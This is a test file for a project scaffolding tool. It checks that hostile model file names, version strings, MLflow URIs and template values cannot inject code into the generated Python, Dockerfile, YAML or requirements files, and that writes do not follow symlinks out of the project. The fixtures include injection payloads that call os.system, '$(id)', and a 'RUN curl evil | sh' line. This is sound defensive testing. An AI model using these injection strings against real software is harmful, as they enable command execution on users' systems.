// Hostile names in generated projects: a model file, an MLflow run's model folder (from a
// server) or a version string that tries to close its Python string and call os.system, a
// file name that breaks a Dockerfile, a newline that injects a YAML key. Each generated
// Python file is parsed by a real Python: no call the template did not write may appear,
// and each hostile value must survive as data (the string the user typed, escaped).
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync, mkdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { ScaffoldOptions } from '../../../src/scaffold/core/model';
import { SAMPLE_FEATURES, validateModelSource, validateOptions } from '../../../src/scaffold/core/model';
import { planProject, pyStringContent, renderTemplate } from '../../../src/scaffold/core/render';
import { templateManifests } from '../../../src/deploy/core/manifests';
import { writePlan } from '../../../src/scaffold/core/write';
import { loadTemplates, templatesRoot } from '../scaffold/templates';

const INJECT = 'm");__import__("os").system("touch /tmp/pwned");("';
const base: ScaffoldOptions = { framework: 'fastapi', projectName: 'iris-api', modelSource: { kind: 'sample' }, features: SAMPLE_FEATURES, port: 8123, pythonVersion: '3.12' };

/** Names of every function called anywhere in the Python files (by a real Python's ast). */
function calledNames(files: Array<{ path: string; content?: string }>): Set<string> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'mlops-hostile-py-'));
  try {
    const py = files.filter((f) => f.path.endsWith('.py') && f.content !== undefined);
    for (const f of py) {
      mkdirSync(path.dirname(path.join(dir, f.path)), { recursive: true });
      writeFileSync(path.join(dir, f.path), f.content!);
    }
    const script = `
import ast, json, sys, pathlib
names = set()
for p in sys.argv[1:]:
    tree = ast.parse(pathlib.Path(p).read_text(), p)
    for n in ast.walk(tree):
        if isinstance(n, ast.Call):
            f = n.func
            names.add(f.attr if isinstance(f, ast.Attribute) else getattr(f, 'id', '?'))
print(json.dumps(sorted(names)))`;
    return new Set(JSON.parse(execFileSync('python3', ['-c', script, ...py.map((f) => path.join(dir, f.path))], { encoding: 'utf8' })) as string[]);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('hostile names in generated projects', () => {
  let templates: Map<string, string>;
  const clean = new Map<string, Set<string>>();
  before(async () => {
    templates = await loadTemplates();
    for (const framework of ['fastapi', 'flask'] as const) clean.set(framework, calledNames(planProject({ ...base, framework, modelSource: { kind: 'file', path: '/ws/churn.joblib' } }, templates)));
  });

  for (const framework of ['fastapi', 'flask'] as const) {
    it(`${framework}: a model file named to close a Python string calls nothing new, and is copied under a plain name`, () => {
      const o: ScaffoldOptions = { ...base, framework, modelSource: { kind: 'file', path: `/ws/${INJECT}.joblib` } };
      assert.deepEqual(validateOptions(o), [], 'any file name is accepted: it is copied under a fixed name');
      const plan = planProject(o, templates);
      const called = calledNames(plan);
      assert.equal(called.has('system') || called.has('__import__'), false, [...called].join(', '));
      assert.deepEqual([...called].filter((n) => !clean.get(framework)!.has(n)), []);
      assert.deepEqual(plan.find((f) => f.copyFrom)?.path, 'model/model.joblib');
      assert.doesNotMatch(plan.find((f) => f.path === 'Dockerfile')!.content!, /pwned/);
    });
  }

  it('a version string with quotes and a newline stays a string in settings.py', () => {
    const version = `1"\n__import__("os").system("id")\n#`;
    const plan = planProject({ ...base, modelSource: { kind: 'file', path: '/ws/churn.joblib', version } as ScaffoldOptions['modelSource'] }, templates);
    assert.equal(calledNames(plan).has('system'), false);
    const settings = plan.find((f) => f.path === 'app/settings.py')!.content!;
    assert.ok(settings.includes(pyStringContent(version)));
  });

  it('a file name with spaces and brackets ("my model (v2).pkl") does not reach the Dockerfile', () => {
    const plan = planProject({ ...base, modelSource: { kind: 'file', path: '/ws/my model (v2).pkl' } }, templates);
    assert.match(plan.find((f) => f.path === 'Dockerfile')!.content!, /MODEL_PATH=\/app\/model\/model\.pkl/);
    assert.equal(plan.find((f) => f.copyFrom)?.copyFrom, '/ws/my model (v2).pkl');
  });

  for (const uri of [
    `runs:/${'a'.repeat(32)}/${INJECT}`,
    `runs:/${'a'.repeat(32)}/model"\nimport os`,
    `runs:/${'a'.repeat(32)}/model\\x`,
    'models:/iris"); import os; ("/1',
    "models:/iris'/1",
    'models:/iris/1\nRUN curl x',
    'models:/iris@prod"',
  ]) {
    it(`refuses the MLflow URI ${JSON.stringify(uri.slice(0, 60))}`, () => {
      assert.equal(validateModelSource({ kind: 'mlflow', uri }).length, 1);
    });
  }

  it('still accepts the MLflow URIs users have', () => {
    for (const uri of [`runs:/${'0'.repeat(32)}/model`, `runs:/${'0'.repeat(32)}/artifacts/sk-model.v2`, 'models:/iris/2', 'models:/Iris-Classifier_v2/3', 'models:/iris@champion', `models:/m-${'f'.repeat(32)}`]) {
      assert.deepEqual(validateModelSource({ kind: 'mlflow', uri }), [], uri);
    }
  });

  it('a value with a newline or a quote is refused in a Dockerfile, YAML or requirements, not written', () => {
    for (const file of ['Dockerfile', 'k8s/deployment.yaml', 'requirements.txt']) {
      for (const v of ['a\nRUN curl evil | sh', 'x" y', 'a b', '$(id)']) {
        assert.throws(() => renderTemplate(file, 'X={{v}}', { v }), /cannot be written into/, `${file}: ${JSON.stringify(v)}`);
      }
    }
  });

  it('a marker whose name injects YAML keys is refused before any manifest is made', async () => {
    await assert.rejects(templateManifests(templatesRoot, 'x\n  namespace: kube-system', 8000), /cannot be written into k8s\/deployment\.yaml/);
    const ok = await templateManifests(templatesRoot, 'iris-api', 8000);
    assert.deepEqual(ok.map((o) => o.kind), ['Deployment', 'Service']);
  });

  it('Markdown and JSON values are escaped for their files', () => {
    assert.equal(renderTemplate('README.md', '`{{v}}`', { v: 'a`\n# b' }), '`a  # b`');
    assert.equal(JSON.parse(renderTemplate('x.json', '"{{v}}"', { v: 'a"\n}' })), 'a"\n}');
  });
});

describe('hostile folders the scaffold writes into', () => {
  let dir = '';
  let outside = '';
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'mlops-scaffold-into-'));
    outside = mkdtempSync(path.join(os.tmpdir(), 'mlops-outside-'));
  });
  afterEach(() => {
    rmSync(dir, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });

  it('a folder linked out of the project, and a file that is a link, are not written through', async () => {
    symlinkSync(outside, path.join(dir, 'app'));
    writeFileSync(path.join(outside, 'victim'), 'keep');
    symlinkSync(path.join(outside, 'victim'), path.join(dir, 'README.md'));
    const plan = [
      { path: 'app/main.py', content: 'x = 1\n', status: 'new' as const },
      { path: 'README.md', content: 'hello\n', status: 'conflict' as const },
      { path: 'ok.txt', content: 'fine\n', status: 'new' as const },
    ];
    const skipped: string[] = [];
    const written = await writePlan(dir, plan, () => 'write', undefined, (p, why) => skipped.push(`${p}:${why}`));
    assert.deepEqual(written, ['ok.txt']);
    assert.deepEqual(skipped.sort(), ['README.md:link', 'app/main.py:outside']);
    assert.deepEqual(readdirSync(outside), ['victim']);
    assert.equal(readFileSync(path.join(outside, 'victim'), 'utf8'), 'keep');
  });

  it('a file planned as new that appeared after the plan was shown is not overwritten', async () => {
    const plan = [{ path: 'Dockerfile', content: 'FROM x\n', status: 'new' as const }];
    writeFileSync(path.join(dir, 'Dockerfile'), 'FROM mine\n'); // the user's, made meanwhile
    const skipped: string[] = [];
    assert.deepEqual(await writePlan(dir, plan, () => 'write', undefined, (p, why) => skipped.push(`${p}:${why}`)), []);
    assert.deepEqual(skipped, ['Dockerfile:appeared']);
    assert.equal(readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), 'FROM mine\n');
  });
});
